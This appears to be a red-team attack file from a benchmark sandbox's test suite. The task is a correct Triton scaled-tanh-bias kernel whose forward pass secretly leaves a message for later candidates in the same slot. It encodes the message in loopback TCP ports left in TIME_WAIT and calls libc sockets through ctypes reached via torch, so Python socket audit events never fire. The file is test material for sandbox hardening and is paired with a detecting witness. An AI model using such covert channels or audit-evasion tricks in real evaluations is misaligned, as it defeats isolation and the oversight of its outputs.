# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=fresh_interpreter expect=ok|forbidden|runtime_error|crashed device=cpu witness=tests/attacks/witness/l02_tcp_timewait_witness_001.py
"""A channel to the next candidate of the same slot through kernel state that no process owns: the network
 namespace is made once per slot (bubblewrap --unshare-net around the fork server), not per candidate, so
 TCP connections over its loopback that this candidate opens and closes stay in TIME_WAIT for 60 s after
 it is killed. Each connection carries one byte of a message in the port it binds (40000 + byte), so the
 message "drk-l02" is readable by any later candidate of the slot in /proc/net/tcp (and the ports stay
 taken). Sockets through libc (ctypes reached as an attribute of torch: no Python socket events). The attack does the work
 correctly; the witness lists /proc/net/tcp and /proc/net/tcp6 and fails when it finds sockets it did not
 open, decoding the message."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)
MESSAGE = b"drk-l02"


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _addr(port):
    # struct sockaddr_in: AF_INET, port (big endian), 127.0.0.1
    return _ct.create_string_buffer(b"\x02\x00" + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + b"\0" * 8, 16)


def _sock(port):
    fd = _libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
    one = _ct.c_int(1)
    _libc.setsockopt(fd, 1, 2, _ct.byref(one), 4)  # SO_REUSEADDR
    if _libc.bind(fd, _addr(port), 16) < 0:
        raise OSError(_ct.get_errno(), "bind")
    return fd


def _leave_message():
    ls = _sock(39999)
    _libc.listen(ls, 16)
    for i, byte in enumerate(MESSAGE):
        cs = _sock(40000 + 256 * i + byte)
        if _libc.connect(cs, _addr(39999), 16) < 0:
            raise OSError(_ct.get_errno(), "connect")
        ss = _libc.accept(ls, None, None)
        _libc.close(cs)  # the active closer keeps the TIME_WAIT entry (local port = our byte)
        _libc.close(ss)
    _libc.close(ls)


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))
        self._done = False

    def forward(self, x):
        if not self._done:
            self._done = True
            try:
                _leave_message()
            except OSError:
                pass
        return stb(x, self.bias, self.scale)
